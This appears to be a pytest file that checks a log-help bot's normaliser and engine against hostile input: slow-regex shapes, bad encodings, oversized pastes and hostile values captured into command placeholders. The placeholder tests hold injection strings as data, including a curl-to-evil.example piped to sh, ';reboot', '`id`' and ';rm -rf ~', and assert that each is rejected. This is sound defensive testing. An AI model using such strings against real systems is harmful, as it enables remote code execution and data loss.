"""Hostile input against the normaliser and the engine (issue #11): no freeze, no exception, same meaning.

The Slack side (acks, /healthz, escaping, downloads) is in tests/slack/test_slack_hostile.py.
"""

from __future__ import annotations

import io
import time
import tracemalloc

import pytest
import re_reference as reference
from hostile_cases import ALL, MB, NAMED, OOM_LINE, SOCKET_LINE
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.engine import normalize
from bot.engine.normalize import Sampler, prepare, read_sampled, sample
from bot.feedback import fingerprint

PREPARE_LIMIT = 5.0  # seconds for a megabyte on a busy 2-core machine; the old normaliser took 20-90+ s here
ANSWER_BUDGET = 10.0  # the engine's worst case on a hostile megabyte is ~2.5 s on that machine

# Text made of the pieces the patterns care about, so that random examples hit their edges.
PIECES = [
    *"aZ09_ .,:;/-+@\t\n<>|!#&`'\"[]()x\\^$", "端", "口", "错误", "１", "２", "\u3000", "\xa0", "\x1b", "\x07", "\x85",
    "ERROR", "Error", "error:", "failed", "Fail", "fault", "WARN", "[W]", "INFO", "Traceback (most recent call last)",
    '  File "x.py", line 3', "  at a.b(", "ValueError: x", "<@U1>", "<@U1|bob>", "<!here>", "<!subteam^S1|@t>",
    "<#C1|ops>", "<http://a|b>", "<https://x>", "```", "```py\n", "\x1b[31m", "\x1b]0;t\x07", "\x1b\\", "10:22:41",
    "2025-03-11 10:22:41.502", "0xdeadbeef", "1.2.3.4:80", "/a/b/c", "C:/x/y", "MIE05E010001", "EZ1001",
    "deadbeefdeadbeefdeadbeef", "1.5", "3x", "1.5x", "&lt;", "&amp;", "&#60;",
]
tricky_text = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


def _timed(fn, *args):
    started = time.perf_counter()
    result = fn(*args)
    return result, time.perf_counter() - started


# --- the freezes of finding 1, one by one ------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(ALL))
def test_hostile_input_is_normalised_in_linear_time(name):
    data = ALL[name]()
    prepared, took = _timed(prepare, data)
    assert took < PREPARE_LIMIT, f"{name}: prepare took {took:.1f}s"
    _, took = _timed(lambda: prepared.focus)
    assert took < PREPARE_LIMIT, f"{name}: focus took {took:.1f}s"
    if isinstance(data, str):
        for fn in (normalize.looks_like_log, normalize.clean, normalize.strip_mentions, fingerprint):
            _, took = _timed(fn, data)
            assert took < PREPARE_LIMIT, f"{name}: {fn.__name__} took {took:.1f}s"


@pytest.mark.parametrize("name", sorted(NAMED))
def test_the_named_freezes_are_answered_within_budget(engine, name):
    answer, took = _timed(engine.answer, NAMED[name]())
    assert took < ANSWER_BUDGET, f"{name}: {took:.1f}s"
    assert answer.lang in ("en", "zh")


def test_every_hostile_input_is_answered_within_budget(engine):
    slow = {}
    for name, make in ALL.items():
        if name in NAMED:
            continue
        _, took = _timed(engine.answer, make())
        if took >= ANSWER_BUDGET:
            slow[name] = round(took, 1)
    assert not slow


def test_memory_stays_bounded_on_a_hostile_megabyte():
    for name in ("closed-mentions-1e5", "one-letter-lines", "error-lines"):
        data = ALL[name]()
        tracemalloc.start()
        try:
            prepare(data).focus
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert peak < 60 * MB, f"{name}: {peak / MB:.0f} MB"


# --- same meaning as before: the RE2/scanner normaliser against the `re` one ----------------------


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(tricky_text)
def test_normaliser_agrees_with_the_re_reference(text):
    assert normalize.clean(text) == reference.clean(text)
    assert normalize.mask(text) == reference.mask(text)
    assert normalize.is_error_line(text) == reference.is_error_line(text)
    assert normalize.looks_like_log(text) == reference.looks_like_log(text)
    lines = text.split("\n")
    assert normalize.detect_lang(lines) == reference.detect_lang(lines)
    for line in lines:
        assert normalize.is_log_line(line) == bool(reference._LOG_LINE.search(line))
    ours, theirs = prepare(text), reference.prepare(text)
    assert (ours.text, ours.lines, ours.error_lines, ours.is_log, ours.lang) == (theirs.text, theirs.lines, theirs.error_lines, theirs.is_log, theirs.lang)
    assert ours.focus == theirs.focus


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(max_size=3000), st.binary(max_size=3000), tricky_text))
def test_prepare_never_raises_and_its_output_is_encodable(data):
    prepared = prepare(data)
    prepared.text.encode("utf-8")  # no lone surrogate survives
    assert all("\n" not in line for line in prepared.lines)
    prepared.focus.encode("utf-8")
    fingerprint(data if isinstance(data, str) else data.decode("utf-8", "replace"))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=8).map("".join), st.integers(min_value=2_000, max_value=60_000))
def test_a_repeated_piece_stays_fast(piece, repeat):
    """Any piece repeated into a long input: the shape that makes a backtracking pattern quadratic."""
    text = (piece * (repeat // len(piece) + 1))[:repeat]
    _, took = _timed(lambda: prepare(text).focus)
    assert took < 1.0


# --- decoding: surrogates, UTF-16, text followed by binary -------------------------------------------


def test_lone_surrogates_are_replaced():
    prepared = prepare("\ud800 Socket bind failed \udfff")
    assert prepared.text == "\ufffd Socket bind failed \ufffd"
    assert normalize.clean("a\udc80b") == "a\ufffdb"


def test_utf16_logs_are_decoded():
    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
        prepared = prepare((SOCKET_LINE + "\n" + OOM_LINE).encode(encoding))
        assert not prepared.was_binary, encoding
        assert prepared.lines == [SOCKET_LINE, OOM_LINE], encoding


def test_text_followed_by_binary_is_read_as_its_text():
    data = ("[2025-03-11 10:00:00] [INFO] starting\n" * 250 + OOM_LINE + "\n").encode() + bytes(range(256)) * 100
    prepared = prepare(data)
    assert prepared.was_binary and any("followed by binary" in n for n in prepared.notices)
    assert OOM_LINE in prepared.lines
    assert prepared.lines.index(OOM_LINE) in prepared.error_lines
    assert prepared.lines.index(OOM_LINE) in normalize.focus_line_indices(prepared)


# --- errors-first sampling ---------------------------------------------------------------------------


def test_a_paste_just_over_the_cap_keeps_the_error_in_its_middle():
    data = ALL["just-over-1mb-error-in-middle"]()
    assert len(data.encode()) > MB
    prepared = prepare(data, max_bytes=MB)
    assert OOM_LINE in prepared.lines
    assert any("first and last 400,000 bytes and the error lines between" in n for n in prepared.notices)
    assert len(prepared.text.encode()) <= MB + 200


def test_sampling_keeps_head_tail_and_middle_errors_whether_streamed_or_not():
    noise = b"[2025-03-11 10:00:00] [INFO] heartbeat ok\n"
    for data in (
        b"", b"short", noise * 10, noise * 3000 + b"ERROR first\n" + noise * 3000 + b"ERROR second\n" + noise * 3000,
        b"x" * 300_000, bytes(i % 251 for i in range(123_457)),
    ):
        for kept, total in (read_sampled(io.BytesIO(data), 50_000, chunk=997), (sample(data, 50_000), len(data))):
            assert total == len(data)
            if len(data) <= 50_000:
                assert kept == data
                continue
            assert kept.startswith(data[:20_000]) and kept.endswith(data[-20_000:])
            assert len(kept) <= 50_000 + 2 * len(noise) + 200
            assert b"bytes omitted by mindie-help" in kept
            if b"ERROR first" in data:
                assert b"ERROR first" in kept and b"ERROR second" in kept
    sampler = Sampler(50_000)
    for _ in range(200):  # 8 MB through a 50 KB sampler: its buffer never grows past about twice the cap
        sampler.feed(noise * 1000)
        assert len(sampler._data) <= 2 * 50_000 + len(noise) * 1000


def test_a_paste_with_too_many_lines_keeps_its_head_tail_and_errors():
    lines = ["ok"] * 60_000
    lines[30_000] = OOM_LINE
    prepared = prepare("\n".join(lines))
    assert len(prepared.lines) < normalize.MAX_LINES + 10
    assert OOM_LINE in prepared.lines and any("lines between its head and tail" in n for n in prepared.notices)


# --- command placeholders (finding 3) and the time budget (finding 2) ------------------------------------


@pytest.mark.parametrize(("name", "value", "kept"), [
    ("port", "1025", True), ("port", "99999", False), ("port", "1025;reboot", False), ("port", "１０２５", False),
    ("model_path", "/data/models/qwen2-7b", True), ("model_path", "/数据/模型", True),
    ("model_path", "/$(curl${IFS}-s${IFS}https://evil.example/x|sh)", False), ("model_path", "/<!channel>", False),
    ("model_path", "/a b", False), ("model_path", "/a`id`", False), ("model_path", "~/x", False),
    ("ifname", "eth0", True), ("ifname", "enp1s0f0.100", True), ("ifname", "eth0;id", False),
    ("ip", "10.0.0.12", True), ("ip", "fe80::1", True), ("ip", "10.0.0.1|sh", False),
    ("code", "MIE05E010001", True), ("code", "<@U1>", False), ("model", "Qwen2.5-7B-Instruct", True),
    ("model", "x\ny", False),
])
def test_captures_fill_a_placeholder_only_when_they_fit_its_type(name, value, kept):
    from bot.engine.engine import fill
    from bot.engine.placeholders import safe_value

    assert (safe_value(name, value) == value) is kept
    assert fill(f"run {{{name}}} now", {name: value}) == (f"run {value} now" if kept else f"run {{{name}}} now")


@pytest.mark.parametrize("path", ["/$(curl${IFS}-s${IFS}https://evil.example/x|sh)", "/<!channel>", "/a;rm -rf ~"])
def test_a_hostile_capture_is_never_offered_as_a_command(engine, path):
    answer = engine.answer(f"Check_path: {path}/config.json failed")
    assert answer.results[0].id == "check-path-config-json"
    assert "chmod 640 {model_path}/config.json" in answer.results[0].commands
    assert not any(path in command for hit in answer.results for command in hit.commands)


def test_an_answer_past_its_budget_reads_only_the_lines_that_matter(engine):
    log = "[INFO] starting\n" * 3000 + SOCKET_LINE + "\n" + "[INFO] retrying\n" * 3000
    answer = engine.answer(log, deadline=time.monotonic() - 1)
    assert answer.results[0].id == "socket-bind-failed"
    assert any("time budget ran out" in n for n in answer.notices)
    assert not any("time budget" in n for n in engine.answer(log, deadline=time.monotonic() + 60).notices)


def test_lone_surrogates_reach_neither_fingerprints_nor_the_feedback_store(db_url):
    from bot.feedback import FeedbackStore

    text = "\ud800 " + OOM_LINE + " \udfff"
    assert fingerprint(text) == fingerprint("\ufffd " + OOM_LINE + " \ufffd")
    # SQLite refuses a lone surrogate; PostgreSQL also refuses NUL in text: the gap is kept, without them.
    with FeedbackStore(db_url) as store:
        store.record_unanswered(text + " \x00 \x1b[31mred\x1b[0m", lang="en", surface="dm")
        gap = store.gaps()[0].excerpt
        assert "\ufffd" in gap and "NPU out of memory" in gap
        assert not any(ch in gap for ch in "\x00\x1b")
